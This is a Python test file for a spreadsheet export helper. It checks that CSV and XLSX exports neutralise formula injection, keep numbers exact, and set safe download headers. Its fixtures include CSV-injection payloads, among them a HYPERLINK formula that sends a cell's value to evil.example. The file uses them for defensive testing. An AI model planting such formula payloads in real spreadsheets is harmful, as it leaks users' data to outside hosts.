"""The one spreadsheet writer: user text never becomes a formula, a link or a number (OWASP CSV injection)."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from flask import Flask

from xyd_common.spreadsheets import csv_cell, csv_text, export_response, xlsx_file
from xyd_testing.helpers import FORMULA_PREFIXES, csv_rows, xlsx_formulas_and_links

HOSTILE = [prefix + body for prefix in FORMULA_PREFIXES
           for body in ('HYPERLINK("http://evil.example/?d="&A1,"详情")', "1+2 采购原材料")]
ROWS = [["名称", "用途", "金额（万元）", "笔数", "放款日期", "网址"],
        *[[text, text, Decimal("-12.5000"), -3, date(2026, 12, 5), "http://evil.example/"] for text in HOSTILE]]


def test_csv_prefixes_every_text_cell_that_a_spreadsheet_would_run():
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell("许昌魏都制造有限公司") == "许昌魏都制造有限公司"
    assert csv_cell("采购 = 原材料") == "采购 = 原材料"  # only the first character matters


def test_csv_numbers_stay_numbers_and_exact():
    assert csv_cell(Decimal("-12.5000")) == "-12.5000"
    assert csv_cell(Decimal("1E+2")) == "100"  # never in exponent notation
    assert csv_cell(-3) == "-3" and csv_cell(4.35) == "4.35"
    assert csv_cell(None) == "" and csv_cell(True) == "是"
    assert csv_cell(date(2026, 12, 5)) == "2026-12-05"
    assert csv_cell(datetime(2026, 12, 5, 1, 30, tzinfo=UTC)) == "2026-12-05 09:30"  # Beijing time


def test_a_csv_file_reads_back_with_every_hostile_cell_prefixed():
    rows = csv_rows(csv_text(ROWS).encode("utf-8"))
    assert rows[0] == ROWS[0]
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == row[1] == "'" + text  # TAB and CR survive inside the quoted cell
        assert row[2:5] == ["-12.5000", "-3", "2026-12-05"]
        assert row[5] == "http://evil.example/"  # plain text in a CSV: nothing to make a link of


def test_an_xlsx_file_has_no_formula_and_no_link_and_numbers_are_numbers():
    data = xlsx_file([("订单", iter(ROWS)), ("第二页", [["标题"], ["=SUM(1,2)"]])]).read()
    assert xlsx_formulas_and_links(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["订单"]
    for r, text in enumerate(HOSTILE, start=2):
        for c in (1, 2, 6):
            assert sheet.cell(r, c).data_type == "s"
        # The text as given (a CR is kept in the file as Excel's `_x000D_` escape, which openpyxl leaves as is).
        assert sheet.cell(r, 1).value == sheet.cell(r, 2).value == text.replace("\r", "_x000D_")
        assert sheet.cell(r, 3).data_type == "n" and sheet.cell(r, 3).value == -12.5
        assert sheet.cell(r, 4).value == -3 and sheet.cell(r, 5).value == "2026-12-05"
        assert sheet.cell(r, 6).hyperlink is None
    assert book["第二页"]["A2"].value == "=SUM(1,2)" and book["第二页"]["A2"].data_type == "s"


def test_the_check_finds_a_formula_where_one_is_written():
    """The check itself can fail: a workbook written the unsafe way has formulas and links."""
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    book.add_worksheet().write_row(0, 0, ['=HYPERLINK("http://evil.example/","详情")', "http://evil.example/"])
    book.close()
    assert len(xlsx_formulas_and_links(buffer.getvalue())) >= 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_answer_is_a_download_no_one_keeps(fmt):
    app = Flask(__name__)
    with app.test_request_context():
        response = export_response(fmt, [("订单", ROWS)], "订单")
        response.direct_passthrough = False
        body = response.get_data()
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    if fmt == "csv":
        assert csv_rows(body)[1][0] == "'" + HOSTILE[0]
    else:
        assert xlsx_formulas_and_links(body) == []
